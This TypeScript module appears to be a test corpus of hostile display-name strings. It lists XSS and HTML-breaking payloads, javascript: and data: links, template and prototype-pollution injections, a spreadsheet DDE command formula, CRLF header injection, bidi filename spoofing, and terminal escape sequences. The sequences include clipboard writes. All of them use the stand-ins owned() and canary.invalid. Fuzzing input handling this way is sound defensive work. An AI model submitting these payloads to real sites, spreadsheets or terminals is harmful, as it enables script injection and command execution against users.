// Words that would run, load, move or hide something, were they anything but text: `owned` is what they would call, and
// `canary` what they would fetch. The lengths are such that a name takes most of them.

export const ELEMENTS = [
  '<script>owned()</script>',
  '<ScRiPt src=//canary.invalid/s.js></sCrIpT>',
  '<img src=canary onerror=owned()>',
  '<img/src="canary"/onerror="owned()">',
  '<svg onload=owned()>',
  '<svg><script>owned()</script></svg>',
  '<svg><animate onbegin=owned() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg onload=owned()>"/>',
  '<math><mi xlink:href="javascript:owned()">press</mi></math>',
  '<iframe srcdoc="<script>owned()</script>">',
  '<iframe src=javascript:owned()>',
  '<object data=canary><embed src=canary>',
  '<video><source onerror=owned()></video>',
  '<details open ontoggle=owned()>',
  '<input autofocus onfocus=owned()>',
  '<body onpageshow=owned()>',
  '<marquee onstart=owned()>',
  '<form action=canary><button formaction=javascript:owned()>',
  '<base href=//canary.invalid>',
  '<meta http-equiv=refresh content="0;url=//canary.invalid">',
  '<link rel=stylesheet href=//canary.invalid/c.css>',
  '<template><img src=canary onerror=owned()></template>',
  '<noscript><p title="</noscript><img src=canary onerror=owned()>',
  '<a href="javascript:owned()">press</a>',
];

/** What leaves something open, or closes what others opened. */
export const EDGES = [
  '<img src="canary',
  '<plaintext>',
  '<textarea>',
  '</textarea></title></style></select></table></dialog>',
  '</title><svg onload=owned()>',
  '<!--',
  '--><img src=canary onerror=owned()><!--',
  '<![CDATA[<img src=canary onerror=owned()>]]>',
  '<',
  '&',
  '"',
  '" autofocus onfocus=owned() x="',
  "' onmouseover=owned() x='",
  '`onclick=owned()`',
  '"><svg onload=owned()>',
  "'-owned()-'",
  'x onerror=owned()',
];

export const LINKS = [
  'javascript:owned()',
  'javascript:%6fwned()',
  'data:text/html,<script>owned()</script>',
  'vbscript:owned()',
  '//canary.invalid',
  'http://canary.invalid',
  '\\\\canary.invalid\\share',
  '%2e%2e%2fcanary',
  '?a=b&c=d#e',
  '..',
];

/** For languages of templates, and for whoever fills in places by searching and replacing. */
export const TEMPLATES = [
  '{{constructor.constructor("owned()")()}}',
  '${owned()}',
  '#{owned()}',
  '<%= owned() %>',
  '<?= owned() ?>',
  '{name} {n} {device} {0}',
  "$& $1 $` $' $$",
  '%s %n %d %x',
  '$(owned) `owned`',
];

/** For what stands within scripts and data. */
export const STATES = [
  '</script><script>owned()</script>',
  '<!--<script>',
  '\\u003cscript\\u003eowned()\\u003c/script\\u003e',
  '"}];owned();//',
  "\\'];owned();//",
  '\u2028owned()\u2029',
  '__proto__',
  'constructor',
  'undefined',
];

const STYLES = [
  'x:expression(owned())',
  '}*{background:url(//canary.invalid/c)}',
  'red;background:url(canary)',
  '</style><style>@import"//canary.invalid/c"',
];

const ENTITIES = [
  '&lt;script&gt;owned()&lt;/script&gt;',
  '&#x3c;img src=canary onerror=owned()&#x3e;',
  '%3Cscript%3Eowned()%3C/script%3E',
  '+ADw-script+AD4-owned()+ADw-/script+AD4-',
  '&nbsp;&amp;amp;&lt',
];

/** What a spreadsheet would work out. */
export const FORMULAS = [
  '=cmd|"/C calc"!A0',
  '=1+1',
  '+1+cmd',
  '-2+3',
  '@SUM(1)',
  '=HYPERLINK("//canary.invalid")',
];

const MARKS = [
  '[press](javascript:owned())',
  '![x](//canary.invalid/i.png)',
  '*b* _i_ ~s~ ||x|| `c` ```',
  '<b>unclosed <i>',
  '<tg-spoiler>x',
];

/** What cannot be seen, or takes more room than its place has. */
const ROOM = [
  'zero\u200bwidth\u200d\ufeff\u00ad!',
  'W'.repeat(64),
  'Щ'.repeat(64),
  '\ufdfd'.repeat(16),
  'Z\u0310\u0324\u0333\u0348a\u030d\u0311\u0352l\u0316\u0321g\u0315\u0489o',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(8),
];

/** What nobody may call a thing, and a device says all the same. */
export const UNSEEN = [
  'abc\u202egpj.exe',
  '\u2066\u2067ow\u2069ned\u200f',
  '\x1b]0;owned\x07',
  '\x1b]2;owned\x1b\\',
  '\x1b]8;;javascript:owned()\x1b\\press\x1b]8;;\x1b\\',
  '\x1b]52;c;b3duZWQ=\x07',
  '\x1b[2J\x1b[31mred\x1b[8;500;500t',
  '\x1bP1;2|owned\x1b\\\x1b_owned\x1b\\\x1b^owned\x1b\\',
  '\u009b31m\u009d0;owned\u009c',
  'a\0b<img src=\0canary onerror=owned()>',
  'java\tscript:owned()',
  'one\r\nset-cookie: owned=1',
  '\x08\x0b\x0c\x7f\u0085.',
];

/** Everything that one may call something. */
export const NAMES = [
  ...ELEMENTS, ...EDGES, ...LINKS, ...TEMPLATES, ...STATES, ...STYLES, ...ENTITIES, ...FORMULAS, ...MARKS, ...ROOM,
];

export const CORPUS = [...NAMES, ...UNSEEN];
